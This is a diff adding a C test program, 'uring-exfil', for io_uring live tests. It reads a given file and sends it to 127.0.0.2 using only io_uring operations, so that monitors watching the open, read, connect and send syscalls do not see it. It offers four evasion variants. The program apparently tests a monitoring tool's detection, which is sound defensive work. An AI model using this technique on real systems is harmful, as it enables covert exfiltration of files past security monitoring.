@@ -1,0 +1,113 @@
+/*
+ * Test program for the io_uring live tests (src/source/io-uring.live.test.ts;
+ * built there with gcc and liburing): reads FILE and sends it to
+ * 127.0.0.2:PORT with the I/O done by the kernel through an io_uring ring,
+ * so none of read(2), open(2), connect(2) or send(2) is made.
+ *
+ *   uring-exfil ring   FILE PORT  openat, read, close, connect and send through the ring
+ *   uring-exfil fixed  FILE PORT  open(2), register the file with the ring, close(2) the
+ *                                 descriptor, then read the registered file through the ring
+ *   uring-exfil direct FILE PORT  openat into a ring-only (direct) descriptor, read it through the ring
+ *   uring-exfil splice FILE PORT  splice through the ring from the file into a pipe, then read it
+ *
+ * Prints "read N sent M" and exits 0, or names the step that failed and exits 1.
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <liburing.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+static struct io_uring ring;
+
+static int run(const char *what, struct io_uring_sqe *sqe, unsigned flags) {
+  struct io_uring_cqe *cqe;
+  io_uring_sqe_set_flags(sqe, flags);
+  if (io_uring_submit(&ring) != 1 || io_uring_wait_cqe(&ring, &cqe) != 0) {
+    fprintf(stderr, "%s: submit failed\n", what);
+    exit(1);
+  }
+  int res = cqe->res;
+  io_uring_cqe_seen(&ring, cqe);
+  if (res < 0) {
+    fprintf(stderr, "%s: %s\n", what, strerror(-res));
+    exit(1);
+  }
+  return res;
+}
+
+int main(int argc, char **argv) {
+  static char buf[1 << 16];
+  if (argc != 4) {
+    fprintf(stderr, "usage: uring-exfil ring|fixed|direct|splice FILE PORT\n");
+    return 2;
+  }
+  const char *mode = argv[1], *file = argv[2];
+  if (io_uring_queue_init(8, &ring, 0) < 0) {
+    perror("io_uring_queue_init");
+    return 1;
+  }
+  int n;
+  if (strcmp(mode, "ring") == 0) {
+    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
+    io_uring_prep_openat(sqe, AT_FDCWD, file, O_RDONLY, 0);
+    int fd = run("openat", sqe, 0);
+    sqe = io_uring_get_sqe(&ring);
+    io_uring_prep_read(sqe, fd, buf, sizeof buf, 0);
+    n = run("read", sqe, 0);
+    sqe = io_uring_get_sqe(&ring);
+    io_uring_prep_close(sqe, fd);
+    run("close", sqe, 0);
+  } else if (strcmp(mode, "fixed") == 0) {
+    int fd = open(file, O_RDONLY);
+    if (fd < 0 || io_uring_register_files(&ring, &fd, 1) != 0) {
+      perror("register");
+      return 1;
+    }
+    close(fd);
+    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
+    io_uring_prep_read(sqe, 0, buf, sizeof buf, 0);
+    n = run("read fixed", sqe, IOSQE_FIXED_FILE);
+  } else if (strcmp(mode, "direct") == 0) {
+    if (io_uring_register_files_sparse(&ring, 1) != 0) {
+      perror("register sparse");
+      return 1;
+    }
+    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
+    io_uring_prep_openat_direct(sqe, AT_FDCWD, file, O_RDONLY, 0, 0);
+    run("openat direct", sqe, 0);
+    sqe = io_uring_get_sqe(&ring);
+    io_uring_prep_read(sqe, 0, buf, sizeof buf, 0);
+    n = run("read direct", sqe, IOSQE_FIXED_FILE);
+  } else if (strcmp(mode, "splice") == 0) {
+    int fd = open(file, O_RDONLY), p[2];
+    if (fd < 0 || pipe(p) != 0) {
+      perror("open/pipe");
+      return 1;
+    }
+    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
+    io_uring_prep_splice(sqe, fd, 0, p[1], -1, sizeof buf, 0);
+    int moved = run("splice", sqe, 0);
+    n = (int)read(p[0], buf, moved);
+  } else {
+    fprintf(stderr, "unknown mode %s\n", mode);
+    return 2;
+  }
+  int s = socket(AF_INET, SOCK_STREAM, 0);
+  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[3]))};
+  inet_pton(AF_INET, "127.0.0.2", &a.sin_addr);
+  struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
+  io_uring_prep_connect(sqe, s, (struct sockaddr *)&a, sizeof a);
+  run("connect", sqe, 0);
+  sqe = io_uring_get_sqe(&ring);
+  io_uring_prep_send(sqe, s, buf, n, 0);
+  int sent = run("send", sqe, 0);
+  printf("read %d sent %d\n", n, sent);
+  close(s);
+  io_uring_queue_exit(&ring);
+  return 0;
+}
